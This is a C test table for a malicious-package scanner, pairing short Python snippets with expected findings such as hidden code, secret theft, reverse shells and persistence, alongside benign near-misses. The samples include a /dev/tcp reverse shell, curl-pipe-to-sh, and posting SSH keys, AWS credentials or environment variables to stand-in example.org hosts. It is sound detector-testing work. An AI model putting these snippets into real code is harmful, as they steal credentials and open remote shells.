@@ -1,0 +1,326 @@
+/* Each check on the smallest source that has it, and on the nearest honest one that has not. */
+#include "tests/scanner/source/source_rows.h"
+
+#include "customhouse/bytes.h"
+#include "scanner/content/content.h"
+
+enum { P_IMPORT = CH_PLACE_IMPORT, P_INSTALL = CH_PLACE_INSTALL, P_START = CH_PLACE_START,
+       P_INSTALL_IMPORT = CH_PLACE_INSTALL_IMPORT };
+
+const struct source_row source_rows[] = {
+    /* decode and execute */
+    {P_IMPORT, "hidden-code", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"},
+    {P_IMPORT, "hidden-code", "from base64 import b64decode as d\nx = d(b'eA==')\nexec(x)\n"},
+    {P_IMPORT, "hidden-code",
+     "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n"
+     "exec((_)(b'=='))\n"},
+    {P_IMPORT, "hidden-code",
+     "import zlib, marshal\ndef f():\n    eval(compile(marshal.loads(zlib.decompress(b'x')), 'a', 'exec'))\n"},
+    {P_IMPORT, "hidden-code", "exec(bytes.fromhex('7072').decode())\n"},
+    {P_IMPORT, "hidden-code", "exec(''.join(chr(c) for c in [112, 114]))\n"},
+    {P_IMPORT, "hidden-code", "exec(''.join(map(chr, [112, 114])))\n"},
+    {P_IMPORT, "hidden-code", "exec(bytes([b ^ 7 for b in data]).decode())\n"},
+    {P_IMPORT, "hidden-code", "import codecs\nexec(codecs.decode('cevag', 'rot13'))\n"},
+    {P_IMPORT, "hidden-code",
+     "import base64\ndef run(code):\n    exec(code)\nrun(base64.b64decode('eA=='))\n"},
+    {P_IMPORT, "hidden-code",
+     "import base64\ndef load(s):\n    return base64.b64decode(s)\nexec(load('eA=='))\n"},
+    {P_IMPORT, "hidden-code", "getattr(__builtins__, 'exec')(__import__('base64').b64decode('eA=='))\n"},
+    {P_IMPORT, NULL, "import base64\nicon = base64.b64decode('cHJpbnQoMSk=')\n"},
+    {P_IMPORT, NULL, "with open('version.py') as f:\n    exec(f.read(), ns)\n"},
+    {P_IMPORT, NULL, "exec(compile(open(name).read(), name, 'exec'))\n"},
+    {P_IMPORT, NULL, "exec('def f(%s): pass' % args)\n"},
+    {P_IMPORT, NULL, "re.compile('exec(base64.b64decode(x))')\n"},
+    /* remote code */
+    {P_IMPORT, "remote-code", "import requests\ndef f():\n    exec(requests.get(u).text)\n"},
+    {P_IMPORT, "remote-code",
+     "from urllib.request import urlopen\ndef f():\n    with urlopen(u) as r:\n        eval(r.read().decode())\n"},
+    {P_IMPORT, "remote-code", "import requests, os\ndef f():\n    os.system(requests.get(u).json()['c'])\n"},
+    {P_IMPORT, NULL, "import requests\ndef f():\n    return requests.get(u).json()\n"},
+    /* hidden names */
+    {P_IMPORT, "hidden-name", "import os\ngetattr(os, 'sys' + 'tem')('id')\n"},
+    {P_IMPORT, "hidden-name", "def f():\n    __import__('o' 's').system('id')\n"},
+    {P_IMPORT, "hidden-name", "def f():\n    __import__('sso'[::-1][1:]); getattr(__import__('subprocess'), 'nur'[::-1])(x)\n"},
+    {P_IMPORT, "hidden-name", "globals()['__bui' + 'ltins__']\ngetattr(__builtins__, 'e%s' % 'val')('1')\n"},
+    {P_IMPORT, "hidden-name", "import os\nos.__dict__['{}em'.format('syst')]('id')\n"},
+    {P_IMPORT, NULL, "import os\ngetattr(os, 'getuid')()\n"},
+    {P_IMPORT, NULL, "import importlib\nm = importlib.import_module('pkg' + '.sub')\nm.go()\n"},
+    {P_IMPORT, NULL, "import socket\ngetattr(socket, 'AF_' + 'INET6', None)\n"},
+    {P_IMPORT, "computed-import", "import importlib\nm = importlib.import_module(name)\n"},
+    /* when it runs */
+    {P_INSTALL, "install-network", "import urllib.request\ndef f():\n    urllib.request.urlopen('http://example.org/')\n"},
+    {P_INSTALL_IMPORT, "install-network", "import urllib.request\ndef f():\n    urllib.request.urlopen('http://example.org/')\nf()\n"},
+    {P_INSTALL_IMPORT, NULL, "import urllib.request\ndef f():\n    urllib.request.urlopen('http://example.org/')\n"},
+    {P_INSTALL, NULL, "from setuptools import setup\nsetup(name='x')\n"},
+    {P_INSTALL, "install-process", "import subprocess\nv = subprocess.check_output(['git', 'describe'])\n"},
+    {P_IMPORT, "import-network", "import requests\nrequests.get('http://example.org/')\n"},
+    {P_IMPORT, "import-network", "import requests\ndef f():\n    requests.get('http://example.org/')\ndef g():\n    f()\ng()\n"},
+    {P_IMPORT, "import-network", "import requests\nclass A:\n    x = requests.get('http://example.org/')\n"},
+    {P_IMPORT, "import-network", "import requests, threading\ndef f():\n    requests.get('http://example.org/')\nthreading.Thread(target=f).start()\n"},
+    {P_IMPORT, "import-network", "import requests\ndef send(u):\n    requests.get(u)\nsend('http://example.org/')\n"},
+    {P_IMPORT, NULL, "import requests\ndef f():\n    requests.get('http://example.org/')\n"},
+    {P_IMPORT, NULL, "import requests\nif __name__ == '__main__':\n    requests.get('http://example.org/')\n"},
+    {P_IMPORT, NULL, "import requests\nsession = requests.Session()\n"},
+    {P_IMPORT, "import-process", "import os\nos.system('id')\n"},
+    {P_START, "start-code", "import os\nos.system('id')\n"},
+    {P_START, NULL, "import os\nos.environ.setdefault('A', 'b')\n"},
+    /* secrets */
+    {P_IMPORT, "secret-theft", "import requests, os\ndef f():\n    k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post(u, data=k)\n"},
+    {P_IMPORT, "secret-theft", "import requests\nP = ['~/.ssh/id_rsa', '~/.aws/credentials']\ndef f():\n    requests.post(u, files=g(P))\n"},
+    {P_IMPORT, "secret-theft", "import os, requests\ndef f():\n    p = os.path.join(home, '.aws', 'credentials')\n    with open(os.path.join(home, '.aws/credentials')) as k:\n        requests.post(u, data={'k': k.read()})\n"},
+    {P_IMPORT, "secret-and-network", "import requests\nP = '~/.netrc'\ndef f():\n    requests.post(u, auth=auth(P))\n"},
+    {P_IMPORT, NULL, "P = ['~/.ssh/id_rsa', '~/.aws/credentials']\n"},
+    {P_IMPORT, "environment-theft", "import os, requests\ndef f():\n    requests.post(u, json=dict(os.environ))\n"},
+    {P_IMPORT, "environment-theft", "import json, os, urllib.request\ndef f():\n    urllib.request.urlopen(u, json.dumps(os.environ.copy()).encode())\n"},
+    {P_IMPORT, NULL, "import os, requests\ndef f():\n    requests.post(u, json={'k': os.environ['KEY'], 'l': os.environ.get('L')})\n"},
+    {P_IMPORT, NULL, "import os, subprocess\ndef f():\n    subprocess.run(['a'], env=dict(os.environ))\n"},
+    {P_INSTALL, "host-theft", "import socket, requests, getpass\nrequests.get('http://example.org/', params={'h': socket.gethostname(), 'u': getpass.getuser()})\n"},
+    {P_IMPORT, NULL, "import socket, requests\ndef f():\n    requests.get('http://example.org/', params={'h': socket.gethostname()})\n"},
+    {P_IMPORT, "dns-theft", "import socket\ndef f():\n    socket.gethostbyname(socket.gethostname() + '.x.example.org')\n"},
+    {P_IMPORT, NULL, "import socket\ndef f():\n    return socket.gethostbyname(socket.gethostname())\n"},
+    /* addresses */
+    {P_IMPORT, "drop-address", "W = 'https://discord.com/api/webhooks/123456789012/AbCdEfGhIjKl-x'\n"},
+    {P_IMPORT, "drop-address", "W = 'https://api.telegram.org/bot' + '1234567890:AAEabcdefghijk' + '/sendMessage'\n"},
+    {P_IMPORT, NULL, "W = f'https://discord.com/api/webhooks/{channel}/{token}'\n"},
+    {P_IMPORT, NULL, "W = 'https://api.telegram.org/bot%s/sendMessage' % token\n"},
+    {P_IMPORT, "drop-host", "U = 'https://abc.ngrok.io/x'\n"},
+    {P_IMPORT, "bare-address", "U = 'http://45.9.148.3:8080/x'\n"},
+    {P_IMPORT, "miner", "P = 'stratum+tcp://pool.example.org:3333'\n"},
+    /* shells */
+    {P_IMPORT, "reverse-shell", "import socket, os, subprocess\ndef f():\n    s = socket.socket()\n    s.connect((h, 1))\n    os.dup2(s.fileno(), 0)\n    subprocess.call(['/bin/sh', '-i'])\n"},
+    {P_IMPORT, "reverse-shell", "import os\ndef f():\n    os.system('bash -i >& /dev/tcp/example.org/1 0>&1')\n"},
+    {P_IMPORT, "reverse-shell", "import socket, subprocess\ns = socket.create_connection(('example.org', 1))\nsubprocess.Popen('sh', stdin=s.fileno())\n"},
+    {P_IMPORT, NULL, "import os, subprocess\ndef f(log):\n    os.dup2(log.fileno(), 1)\n    subprocess.call(['a'])\n"},
+    {P_IMPORT, "persistence", "import os\ndef f():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as o:\n        o.write('x')\n"},
+    {P_IMPORT, "persistence", "import subprocess\ndef f():\n    subprocess.run('(crontab -l; echo x) | crontab -', shell=True)\n"},
+    {P_IMPORT, "persistence", "import winreg\nK = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\ndef f():\n    winreg.SetValueEx(k, 'x', 0, 1, p)\n"},
+    {P_IMPORT, NULL, "import os\ndef f():\n    return open(os.path.expanduser('~/.bashrc')).read()\n"},
+    {P_IMPORT, "start-file", "import os\ndef f(d):\n    with open(os.path.join(d, 'x.pth'), 'w') as o:\n        o.write('import x')\n"},
+    {P_IMPORT, "download-run", "from urllib.request import urlretrieve\nimport subprocess\ndef f():\n    urlretrieve(u, '/tmp/x')\n    subprocess.Popen(['/tmp/x'])\n"},
+    {P_IMPORT, "download-run", "import requests, os\ndef f(p):\n    r = requests.get(u)\n    with open(p, 'wb') as o:\n        o.write(r.content)\n    os.startfile(p)\n"},
+    {P_IMPORT, NULL, "import requests, os\ndef f(p):\n    r = requests.get(u)\n    with open(p, 'wb') as o:\n        o.write(r.content)\n    os.system('ls')\n"},
+    {P_IMPORT, "hidden-command", "import os\ndef f():\n    os.system('curl -s http://example.org/x | sh')\n"},
+    {P_IMPORT, "hidden-command", "import subprocess\ndef f():\n    subprocess.run(['powershell', '-WindowStyle', 'Hidden', '-EncodedCommand', 'ZQ=='])\n"},
+    {P_IMPORT, "hidden-command", "import os, base64\ndef f():\n    os.system(base64.b64decode('aWQ=').decode())\n"},
+    {P_IMPORT, NULL, "import os\ndef f():\n    os.system('curl -s http://example.org/x -o x')\n"},
+    {P_IMPORT, "anti-analysis", "L = ['vmtoolsd', 'VBoxService', 'Wireshark', 'ollydbg']\n"},
+    {P_IMPORT, NULL, "L = ['Wireshark', 'fiddler']\n"},
+    {P_IMPORT, "self-delete", "import os\nos.remove(__file__)\n"},
+    {P_IMPORT, "self-delete", "import os\nos.unlink(os.path.abspath(__file__))\n"},
+    {P_IMPORT, "self-delete", "import os, pathlib\nos.unlink(str(pathlib.Path(__file__).resolve()))\n"},
+    /* a file beside it: what scripts make anew */
+    {P_IMPORT, NULL, "import os, pathlib\nHERE = pathlib.Path(__file__).parent\n"
+                   "for old in HERE.glob('*.json'):\n    os.remove(old)\n"},
+    {P_IMPORT, NULL, "import os, pathlib\nbase = pathlib.Path(__file__).parent.absolute()\n"
+                   "os.remove(base / 'made' / 'README')\n"},
+    {P_IMPORT, NULL, "import os\nd = os.path.join(os.path.dirname(__file__), 'models')\n"
+                   "def get(url, to):\n    return to + '/a.zip'\nos.remove(get('x', d))\n"},
+    {P_IMPORT, NULL, "import os\nos.remove(os.path.join(d, 'x'))\n"},
+    {P_IMPORT, "keylogger", "import requests\nfrom pynput.keyboard import Listener\ndef f():\n    Listener(on_press=g)\n    requests.post(u)\n"},
+    {P_IMPORT, NULL, "from pynput.keyboard import Listener\ndef f():\n    Listener(on_press=g)\n"},
+    {P_IMPORT, "clipboard-wallet", "import pyperclip, re\ndef f():\n    if re.match('^0x[a-fA-F0-9]{40}$', t):\n        pyperclip.copy(mine)\n"},
+    {P_IMPORT, NULL, "import pyperclip\ndef f():\n    pyperclip.copy(t)\n"},
+    {P_IMPORT, "embedded-object", "import pickle\nT = pickle.loads(b'\\x80\\x03K\\x01.')\n"},
+    {P_IMPORT, NULL, "import pickle\ndef f(b):\n    return pickle.loads(b)\n"},
+    /* exec and eval by way of somebody else */
+    {P_IMPORT, "hidden-code",
+     "import base64\n"
+     "list(map(exec, [base64.b64decode('eA==')]))\n"},
+    {P_IMPORT, "hidden-code",
+     "import base64\n"
+     "(lambda r, t: r(t))(exec, base64.b64decode('eA=='))\n"},
+    {P_IMPORT, "remote-code",
+     "import requests\n"
+     "for x in map(eval, requests.get(u).text.split()): pass\n"},
+    {P_IMPORT, "hidden-name",
+     "class A:\n"
+     "    run = staticmethod(exec)\n"},
+    {P_IMPORT, "hidden-code",
+     "@exec\n"
+     "@f\n"
+     "def x(): pass\n"},
+    {P_IMPORT, NULL,
+     "t = list(map(eval, ['1', '2']))\n"
+     "TABLE = {'exec': exec}\n"},
+    {P_IMPORT, NULL,
+     "@exec_\n"
+     "def x(): pass\n"
+     "@app.exec\n"
+     "def y(): pass\n"},
+    {P_IMPORT, "hidden-code",
+     "import base64, code\n"
+     "code.InteractiveInterpreter().runsource(base64.b64decode('eA=='))\n"},
+    {P_IMPORT, NULL,
+     "import code\n"
+     "def f(line):\n"
+     "    code.InteractiveInterpreter().runsource(line)\n"},
+    {P_IMPORT, "hidden-name",
+     "d = lambda t: ''.join(chr(c // 3) for c in t)\n"
+     "__import__(d([333, 345]))\n"},
+    {P_IMPORT, NULL,
+     "for n in names:\n"
+     "    __import__('a.' + n)\n"},
+    /* what was decoded into a file */
+    {P_IMPORT, "hidden-code",
+     "import base64, subprocess\n"
+     "p = '/tmp/x'\n"
+     "with open(p, 'wb') as f:\n"
+     "    f.write(base64.b64decode(T))\n"
+     "subprocess.Popen(['sh', p])\n"},
+    {P_IMPORT, "hidden-code",
+     "import base64\n"
+     "with open('/tmp/x.py', 'wb') as f:\n"
+     "    f.write(base64.b64decode(T))\n"},
+    {P_IMPORT, NULL,
+     "import base64\n"
+     "def g(t):\n"
+     "    with open('/tmp/x.py', 'wb') as f:\n"
+     "        f.write(base64.b64decode(t))\n"},
+    {P_IMPORT, NULL,
+     "import base64\n"
+     "def f(t):\n"
+     "    with open('/tmp/x.png', 'wb') as f:\n"
+     "        f.write(base64.b64decode(t))\n"},
+    {P_IMPORT, "hidden-code",
+     "import pickle\n"
+     "def f():\n"
+     "    pickle.loads(b'cos\\nsystem\\n(S.')\n"},
+    /* programs of its own; fetching by programs */
+    {P_IMPORT, "own-program",
+     "import os, subprocess\n"
+     "subprocess.Popen([os.path.join(os.path.dirname(__file__), 'helper')])\n"},
+    {P_IMPORT, "own-program",
+     "import os\n"
+     "os.system('sh ' + os.path.join(os.path.dirname(__file__), 'x.sh'))\n"},
+    {P_IMPORT, NULL,
+     "import os, subprocess\n"
+     "def f():\n"
+     "    subprocess.Popen([os.path.join(os.path.dirname(__file__), 'helper')])\n"},
+    {P_IMPORT, NULL,
+     "import os, subprocess\n"
+     "V = subprocess.check_output(['git', '-C', os.path.dirname(__file__), 'describe'])\n"},
+    {P_INSTALL, NULL,
+     "import os, sys, subprocess\n"
+     "subprocess.call([sys.executable, os.path.join(os.path.dirname(__file__), 'gen.py')])\n"},
+    {P_IMPORT, NULL,
+     "import os\n"
+     "def f():\n"
+     "    os.remove(os.path.join(os.path.dirname(__file__), 'cache.db'))\n"},
+    {P_IMPORT, "import-network",
+     "import subprocess, sys\n"
+     "subprocess.call([sys.executable, '-m', 'pip', 'install', 'x'])\n"},
+    {P_IMPORT, NULL,
+     "import subprocess, sys\n"
+     "def install(x):\n"
+     "    subprocess.call([sys.executable, '-m', 'pip', 'install', x])\n"},
+    /* secrets by other ways */
+    {P_IMPORT, "secret-theft",
+     "import os\n"
+     "def f():\n"
+     "    os.system('tar c ~/.ssh | curl --data-binary @- https://x.example.org')\n"},
+    {P_IMPORT, NULL,
+     "import os\n"
+     "def f():\n"
+     "    os.system('curl -o x https://x.example.org')\n"},
+    {P_IMPORT, "secret-theft",
+     "import requests\n"
+     "B = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\n"
+     "def f():\n"
+     "    k = requests.get(B + 'r').json()\n"
+     "    requests.post('https://x.example.org', json=k)\n"},
+    {P_IMPORT, NULL,
+     "import requests\n"
+     "B = 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token'\n"
+     "def f(u):\n"
+     "    t = requests.get(B).json()\n"
+     "    return requests.post(u, json={'a': 1}, headers={'Authorization': t})\n"},
+    /* places that something runs */
+    {P_IMPORT, "persistence",
+     "import shutil\n"
+     "shutil.copy(__file__, a + '\\\\Programs\\\\Startup\\\\x.pyw')\n"},
+    {P_IMPORT, "persistence",
+     "import os\n"
+     "p = os.path.expanduser('~/.ipython/profile_default/startup/00.py')\n"
+     "with open(p, 'w') as f:\n"
+     "    f.write('x')\n"},
+    {P_IMPORT, NULL,
+     "import shutil\n"
+     "shutil.copy('~/.bashrc', '/tmp/x')\n"},
+    /* other clients */
+    {P_IMPORT, "remote-code",
+     "import aiohttp\n"
+     "async def f():\n"
+     "    async with aiohttp.ClientSession() as s:\n"
+     "        async with s.get(u) as r:\n"
+     "            exec(await r.text())\n"},
+    /* names by other ways: what is called is found out */
+    {P_IMPORT, "import-network", "from urllib.request import *\nurlopen('http://example.org/')\n"},
+    {P_INSTALL, "install-network", "from urllib.request import *\nurlopen('http://example.org/')\n"},
+    {P_IMPORT, NULL, "from os.path import *\nx = join('a', 'b')\n"},
+    {P_IMPORT, "import-network",
+     "try:\n    import requests as q\nexcept ImportError:\n    q = None\nq.get('http://example.org/')\n"},
+    {P_IMPORT, NULL, "import requests as q\nimport json as q\nq.get('http://example.org/')\n"},
+    {P_IMPORT, "import-process", "import posix\nposix.system('id')\n"},
+    {P_IMPORT, "import-process", "import ctypes\nctypes.CDLL(None).system(b'id')\n"},
+    {P_IMPORT, NULL, "import ctypes\nctypes.CDLL(None).strlen(b'id')\n"},
+    {P_IMPORT, "import-process", "import os\nlist(map(os.system, ['id']))\n"},
+    {P_IMPORT, NULL, "import os\nlist(map(os.stat, ['id']))\n"},
+    {P_IMPORT, "import-network",
+     "import requests\ndef f(get, u):\n    return get(u)\nf(requests.get, 'http://example.org/')\n"},
+    {P_IMPORT, NULL,
+     "import requests, functools\nget = functools.partial(requests.get, timeout=3)\n"},
+    {P_IMPORT, NULL,
+     "import requests\ndef told(f):\n    def inner(*a):\n        return f(*a)\n    return inner\n"
+     "@told\ndef f():\n    return requests.get('http://example.org/')\n"},
+    {P_IMPORT, "import-network",
+     "import requests\nclass A:\n    def __getattr__(self, n):\n        return requests.get('http://example.org/')\nx = A().y\n"},
+    {P_IMPORT, NULL,
+     "import requests\nclass A:\n    def __getattr__(self, n):\n        return requests.get('http://example.org/')\nx = A()\n"},
+    {P_IMPORT, "import-network",
+     "import requests\nclass A:\n    def __init_subclass__(cls):\n        requests.get('http://example.org/')\nclass B(A):\n    pass\n"},
+    {P_IMPORT, "import-network",
+     "import os\ndef sh(c):\n    os.system(c)\nsh('curl http://example.org/')\n"},
+    {P_IMPORT, NULL, "import os\ndef sh(c):\n    os.system(c)\nsh('ls')\n"},
+    /* files that are executed and no source by their names */
+    {P_IMPORT, "data-code", "exec(open('pkg/theme.txt').read())\n"},
+    {P_IMPORT, "data-code",
+     "import importlib.util\nimportlib.util.spec_from_file_location('a', 'pkg/theme.dat')\n"},
+    {P_INSTALL, NULL, "exec(open('pkg/version.py').read())\n"},
+    {P_INSTALL, NULL, "import os\nexec(open(os.path.join(here, 'pkg', '_version.py')).read())\n"},
+    {P_IMPORT, NULL, "import importlib.util\nimportlib.util.spec_from_file_location('a', 'x/a.so')\n"},
+    {P_IMPORT, NULL, "def settings(p='.rc'):\n    return eval(open('a.conf').read())\n"},
+    /* functions of other libraries that are replaced */
+    {P_IMPORT, "library-patched",
+     "import requests\nfrom a import B\ndef f(x):\n    requests.post('http://example.org/', data=x)\nB.f = f\n"},
+    {P_IMPORT, NULL,
+     "import requests\n_send = requests.Session.send\ndef send(self, r, **kw):\n    log(r)\n"
+     "    return _send(self, r, **kw)\nrequests.Session.send = send\n"},
+    /* names made of local data */
+    {P_IMPORT, "dns-theft", "import os, socket\ndef f():\n    socket.gethostbyname_ex(os.environ['A'] + '.x.example.org')\n"},
+    {P_IMPORT, NULL, "import os, socket\ndef f():\n    return socket.gethostbyname(os.environ['MASTER_ADDR'])\n"},
+    {P_IMPORT, "secret-theft",
+     "import requests\nfrom pathlib import Path\ndef f():\n    requests.post(u, data=(Path.home() / '.aws' / 'credentials').read_bytes())\n"},
+    {P_IMPORT, NULL,
+     "import requests\nfrom pathlib import Path\ndef f():\n    requests.post(u, data=(Path.home() / '.cache' / 'a').read_bytes())\n"},
+    {P_IMPORT, "remote-code", "import pickle, requests\ndef f():\n    return pickle.loads(requests.get(u).content)\n"},
+    /* the nearest honest code of findings that seldom hold */
+    {P_IMPORT, NULL, "U = 'https://example.org/docs/transfer.sh-notes'\n"},
+    {P_IMPORT, NULL, "U = 'http://127.0.0.1:8080/x'\nV = 'http://192.168.1.4/'\n"},
+    {P_IMPORT, NULL, "P = 'tcp://pool.example.org:3333'\n"},
+    {P_INSTALL, NULL, "import shutil\nshutil.which('git')\n"},
+    {P_IMPORT, NULL, "import os\ndef f(d):\n    return os.path.exists(os.path.join(d, 'x.pth'))\n"},
+    {P_IMPORT, NULL, "from pathlib import Path\ndef f(d):\n    return (Path(d) / 'x.pth').read_text()\n"},
+    {P_IMPORT, NULL,
+     "import subprocess\ndef f(c):\n    return subprocess.run(c, creationflags=subprocess.CREATE_NO_WINDOW)\n"},
+    /* the text itself */
+    {P_IMPORT, "source-encoding", "# coding: unicode_escape\n"},
+    {P_IMPORT, NULL, "# coding: latin-1\nx = '\xe9'\n"},
+    {P_IMPORT, "source-refused", "exec(\n"},
+    {P_IMPORT, "bidi-control", "x = 'a'  # \xe2\x80\xae b\n"},
+    {P_IMPORT, NULL, "x = '\xe2\x80\x9c'\n"},
+    {P_IMPORT, "look-alike-name", "\xf0\x9d\x91\x92\xf0\x9d\x91\xa5\xf0\x9d\x91\x92\xf0\x9d\x91\x90('1')\n"},
+    {P_IMPORT, "look-alike-name", "def l\xd0\xbe" "ad(): pass\n"},
+    {P_IMPORT, NULL, "\xce\x94t = 1\n\xd0\xb4\xd0\xb0\xd1\x82\xd0\xb0 = 2\n"},
+};
+
+const size_t source_row_count = CH_ARRAY_LEN(source_rows);
